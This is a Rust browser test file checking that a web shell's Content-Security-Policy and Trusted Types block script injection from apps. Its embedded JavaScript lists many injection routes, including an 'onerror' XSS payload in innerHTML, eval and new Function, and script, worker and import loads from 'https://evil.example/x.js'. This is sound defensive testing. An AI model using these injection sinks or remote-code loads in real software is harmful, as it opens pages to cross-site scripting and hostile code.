//! Texts do not become code on the shell's page, whoever has them.

use anyhow::ensure;
use serde_json::json;
use wharf_tests::{
    Result,
    browser::{button, heading},
    fixtures,
    guests::Guest,
    publication::{Kind, Publication},
    shell::CHILDREN,
};

use super::{Scene, Venue};

/// Tries every way from a text to code that browsers have, at its mount. `wharfTries` says of each whether it was refused.
const TRIES: &str = "export const wharf_abi = () => 1;
const url = new URL('evil.js', import.meta.url).href;
const mark = \"(globalThis.wharfMarks ??= []).push('tries:-:evil')\";
const make = (tag) => document.createElement(tag);
const policy = (name) => () => trustedTypes.createPolicy(name, {
  createScriptURL: (text) => text, createScript: (text) => text, createHTML: (text) => text,
});
const ways = {
  'a script with an address': () => { document.head.append(Object.assign(make('script'), { src: url })); },
  'a script with an address of a foreign origin': () => { make('script').src = 'https://evil.example/x.js'; },
  'a script with an attribute': () => { make('script').setAttribute('src', url); },
  'a script with a text': () => { make('script').text = mark; },
  'a script with a content': () => { make('script').textContent = mark; },
  'a worker': () => { new Worker(url); },
  'a worker of a foreign origin': () => { new Worker('https://evil.example/x.js'); },
  'a shared worker': () => { new SharedWorker(url); },
  'a service worker': () => navigator.serviceWorker.register(url),
  'the inside of an element': () => { make('div').innerHTML = `<img src=x onerror=\"${mark}\">`; },
  'the outside of an element': () => { const div = make('div'); make('p').append(div); div.outerHTML = '<b>x</b>'; },
  'a text beside an element': () => { document.body.insertAdjacentHTML('beforeend', '<b>x</b>'); },
  'a document': () => { document.write('<b>x</b>'); },
  'a parsed document': () => { new DOMParser().parseFromString('<b>x</b>', 'text/html'); },
  'a frame with a text': () => { make('iframe').srcdoc = '<b>x</b>'; },
  'an event attribute': () => { make('div').setAttribute('onclick', mark); },
  'eval': () => { (0, eval)(mark); },
  'a function': () => { new Function(mark)(); },
  'a timer': () => { setTimeout(mark); },
  'an import of data': () => import(`data:text/javascript,${encodeURIComponent(mark)}`),
  'an import of a foreign origin': () => import('https://evil.example/x.js'),
  'an import of a blob': () => import(URL.createObjectURL(new Blob([mark], { type: 'text/javascript' }))),
  'the policy of the shell': policy('wharf'),
  'a default policy': policy('default'),
  'a policy of its own': policy('own'),
  'a policy without a name': policy(''),
};
export const mount = async (element) => {
  const tries = {};
  for (const [name, way] of Object.entries(ways)) {
    try {
      await way();
      tries[name] = 'it worked';
    } catch (error) {
      tries[name] = error.name;
    }
  }
  globalThis.wharfTries = tries;
  element.append(Object.assign(make('h1'), { textContent: 'Tries' }));
  return { unmount() {} };
};
";

pub(in crate::loader) async fn no_way_from_a_text_to_code_is_open_to_an_app(venue: &Venue) -> Result<()> {
    let guest = Guest::new(Publication::new("tries", Kind::Esm, TRIES));
    let scene = Scene::prepare_in(venue, std::slice::from_ref(&guest), &[], |server| {
        let evil = "(globalThis.wharfMarks ??= []).push('tries:-:evil');";
        let content = wharf_tests::fault_server::Content::named("tries/evil.js", evil);
        server.put("tries/evil.js", content);
        Ok(())
    })
    .await?;
    let browser = &scene.browser;
    let header = "return (await fetch('/')).headers.get('content-security-policy');";
    let header: String = browser.run_async(header, Vec::new()).await?;
    for directive in ["require-trusted-types-for 'script'", "trusted-types wharf"] {
        ensure!(header.split("; ").any(|found| found == directive), "{header}");
    }
    scene.go_to(&guest).await?;
    browser.find(&heading("Tries")).await?;
    let tries: Vec<(String, String)> = browser.run("return Object.entries(wharfTries);", Vec::new()).await?;
    ensure!(tries.len() > 20, "{tries:?}");
    let open: Vec<_> = tries
        .iter()
        .filter(|(_, error)| !matches!(error.as_str(), "TypeError" | "EvalError"))
        .collect();
    ensure!(open.is_empty(), "open to an app: {open:?}");
    ensure!(scene.all_marks().await?.is_empty());
    if browser.is_firefox() {
        return Ok(());
    }
    // This is how the journey below would see it.
    let errors = browser.console_errors().await?;
    ensure!(
        errors.iter().any(|error| error.contains("require-trusted-types-for")),
        "{errors:?}"
    );
    Ok(())
}

#[tokio::test]
async fn the_shell_the_vault_and_apps_of_every_kind_violate_nothing() -> Result<()> {
    let topics = json!({ "emit": ["lookout.count"], "on": ["lookout.count"] });
    let guests = [
        (
            Guest::new(fixtures::lookout("lookout")).with("topics", topics),
            "Lookout",
        ),
        (Guest::new(fixtures::clock("clock")), "Clock"),
        (Guest::new(fixtures::harbour("harbour")?), "Harbour"),
    ];
    let scene = Scene::set(&guests.clone().map(|(guest, _)| guest)).await?;
    let browser = &scene.browser;
    for child in CHILDREN {
        browser.visit(child).await?;
    }
    for (guest, title) in &guests {
        scene.go_to(guest).await?;
        browser.find(&heading(title)).await?;
        browser.click(&button("Count")).await?;
    }
    browser.reload().await?;
    browser.find(&heading("Harbour")).await?;
    browser.click(&button("Sign out")).await?;
    browser.find(&button("Sign in")).await?;
    let errors = browser.console_errors().await?;
    ensure!(errors.is_empty(), "{errors:?}");
    Ok(())
}

in_chromium!(no_way_from_a_text_to_code_is_open_to_an_app);
